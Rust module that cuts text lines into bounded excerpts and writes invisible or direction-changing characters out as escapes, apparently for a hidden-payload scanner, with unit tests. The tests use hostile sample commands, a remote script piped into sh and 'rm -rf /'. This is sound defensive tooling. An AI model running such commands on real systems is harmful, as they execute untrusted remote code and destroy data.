//! Short, safe excerpts: bounded in length, with every invisible or control character written
//! out as `<U+XXXX>` so hidden text shows in a terminal, a log or a web page.

/// The longest excerpt, in characters (escapes included).
pub const MAX_EXCERPT_CHARS: usize = 160;

/// Characters of context kept before the match when the line is too long.
const LEAD: usize = 40;

/// A character that is invisible, a control, or reorders text: written as `<U+XXXX>`.
pub fn is_hidden(c: char) -> bool {
    (c.is_control() && c != '\t')
        || matches!(c,
            '\u{00AD}'
            | '\u{034F}'
            | '\u{115F}' | '\u{1160}' | '\u{3164}' | '\u{FFA0}'
            | '\u{180E}'
            | '\u{200B}'..='\u{200F}'
            | '\u{2028}'..='\u{202E}'
            | '\u{2060}'..='\u{2064}'
            | '\u{2066}'..='\u{206F}'
            | '\u{FE00}'..='\u{FE0E}'
            | '\u{FEFF}'
            | '\u{FFF9}'..='\u{FFFB}'
            | '\u{E0000}'..='\u{E007F}'
            | '\u{E0100}'..='\u{E01EF}')
}

fn push_rendered(out: &mut String, c: char) {
    if c == '\t' {
        out.push(' ');
    } else if is_hidden(c) {
        out.push_str(&format!("<U+{:04X}>", c as u32));
    } else {
        out.push(c);
    }
}

fn rendered(c: char) -> String {
    let mut s = String::new();
    push_rendered(&mut s, c);
    s
}

/// Renders a whole string (no bound): hidden characters escaped.
pub fn render(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        push_rendered(&mut out, c);
    }
    out
}

/// Cuts `s` to at most `max` characters, ending with `…` when cut.
pub fn bound(s: &str, max: usize) -> String {
    if s.chars().count() <= max {
        return s.to_string();
    }
    let mut out: String = s.chars().take(max.saturating_sub(1)).collect();
    out.push('…');
    out
}

/// The excerpt of `line` around the byte range `start..end` of a match: the trimmed line
/// when it fits, else a window that starts a little before the match, with `…` marking each
/// cut. Never longer than [`MAX_EXCERPT_CHARS`] characters.
pub fn excerpt(line: &str, start: usize, end: usize) -> String {
    excerpt_with(line, start, end, MAX_EXCERPT_CHARS)
}

/// [`excerpt`] with a prefix (e.g. what a hidden payload decodes to) counted in the bound.
pub fn excerpt_prefixed(prefix: &str, line: &str, start: usize, end: usize) -> String {
    let prefix = bound(&render(prefix), MAX_EXCERPT_CHARS * 3 / 4);
    let room = MAX_EXCERPT_CHARS.saturating_sub(prefix.chars().count());
    let rest = excerpt_with(line, start, end, room);
    format!("{prefix}{rest}")
}

fn excerpt_with(line: &str, start: usize, end: usize, max: usize) -> String {
    // Only a window around the match is ever shown: cut a long line down first (bytes ≥
    // characters, so 8 × max bytes on each side is more than enough), keeping the cuts visible.
    let margin = 8 * max.max(8);
    let start = floor_boundary(line, start.min(line.len()));
    let end = floor_boundary(line, end.min(line.len())).max(start);
    if line.len() > 2 * margin + (end - start) {
        let lo = floor_boundary(line, start.saturating_sub(margin));
        let hi = floor_boundary(line, (end + margin).min(line.len())).max(end);
        if lo > 0 || hi < line.len() {
            let inner = excerpt_with(&line[lo..hi], start - lo, end - lo, max);
            return mark_cuts(
                inner,
                lo > 0 && !line[..lo].trim().is_empty(),
                hi < line.len(),
                max,
            );
        }
    }
    // Trim, keeping the match inside.
    let lead_ws = line.len() - line.trim_start().len();
    let begin = lead_ws.min(start);
    let trimmed_end = line.trim_end().len().max(end);
    let body = &line[begin..trimmed_end];
    let m_start = start - begin;

    let pieces: Vec<String> = body.chars().map(rendered).collect();
    let total: usize = pieces.iter().map(|p| p.chars().count()).sum();
    if total <= max {
        return pieces.concat();
    }
    if max < 8 {
        return bound(&pieces.concat(), max);
    }
    // Index of the char where the match starts.
    let m_char = body[..m_start].chars().count();
    // Walk back from the match to keep at most LEAD chars of lead-in.
    let mut first = m_char;
    let mut lead = 0usize;
    while first > 0 {
        let w = pieces[first - 1].chars().count();
        if lead + w > LEAD.min(max / 3) {
            break;
        }
        lead += w;
        first -= 1;
    }
    let cut_front = first > 0;
    let mut out = String::new();
    let mut used = 0usize;
    if cut_front {
        out.push('…');
        used += 1;
    }
    let mut i = first;
    while i < pieces.len() {
        let w = pieces[i].chars().count();
        // Room for a closing ellipsis unless this is the last piece.
        let reserve = if i + 1 < pieces.len() { 1 } else { 0 };
        if used + w + reserve > max {
            break;
        }
        out.push_str(&pieces[i]);
        used += w;
        i += 1;
    }
    if i < pieces.len() {
        out.push('…');
    }
    out
}

/// Adds the `…` of a cut made before [`excerpt_with`] saw the line, within `max`.
fn mark_cuts(mut s: String, front: bool, back: bool, max: usize) -> String {
    if front && !s.starts_with('…') {
        s.insert(0, '…');
    }
    if back && !s.ends_with('…') {
        s.push('…');
    }
    if s.chars().count() > max {
        // Drop characters before the closing mark.
        let keep: String = s.chars().take(max.saturating_sub(1)).collect();
        s = format!("{}…", keep.trim_end_matches('…'));
    }
    s
}

fn floor_boundary(s: &str, mut i: usize) -> usize {
    while i > 0 && !s.is_char_boundary(i) {
        i -= 1;
    }
    i
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn short_lines_are_kept_whole_and_trimmed() {
        assert_eq!(excerpt("   curl x | sh  ", 3, 14), "curl x | sh");
    }

    #[test]
    fn long_lines_are_bounded_around_the_match() {
        let line = format!(
            "{}curl http://203.0.113.9/x | sh{}",
            "a".repeat(500),
            "b".repeat(500)
        );
        let s = line.find("curl").unwrap_or(0);
        let e = excerpt(&line, s, s + 30);
        assert!(
            e.chars().count() <= MAX_EXCERPT_CHARS,
            "{}",
            e.chars().count()
        );
        assert!(e.contains("curl http://203.0.113.9/x | sh"), "{e}");
        assert!(e.starts_with('…') && e.ends_with('…'));
    }

    #[test]
    fn huge_lines_are_cut_before_rendering() {
        let line = format!("{}rm -rf /{}", "é".repeat(100_000), "x".repeat(100_000));
        let s = line.find("rm -rf").unwrap_or(0);
        let e = excerpt(&line, s, s + 8);
        assert!(e.chars().count() <= MAX_EXCERPT_CHARS);
        assert!(
            e.starts_with('…') && e.ends_with('…') && e.contains("rm -rf /"),
            "{e}"
        );
    }

    #[test]
    fn hidden_characters_are_written_out() {
        let line = "ok\u{E0041}\u{200B}\u{202E}\u{7}end";
        let e = excerpt(line, 0, line.len());
        assert_eq!(e, "ok<U+E0041><U+200B><U+202E><U+0007>end");
    }

    #[test]
    fn a_line_of_hidden_characters_stays_bounded() {
        let line: String = std::iter::repeat_n('\u{E0061}', 1000).collect();
        let e = excerpt(&line, 0, line.len());
        assert!(e.chars().count() <= MAX_EXCERPT_CHARS);
        assert!(e.starts_with("<U+E0061>"));
    }

    #[test]
    fn prefixed_excerpts_stay_bounded() {
        let line = "x".repeat(400);
        let e = excerpt_prefixed(&"decoded: ".repeat(40), &line, 10, 20);
        assert!(
            e.chars().count() <= MAX_EXCERPT_CHARS,
            "{}",
            e.chars().count()
        );
    }

    #[test]
    fn offsets_inside_a_character_do_not_panic() {
        let line = "héllo wörld";
        let _ = excerpt(line, 2, 9);
        let _ = excerpt(line, 100, 200);
    }
}
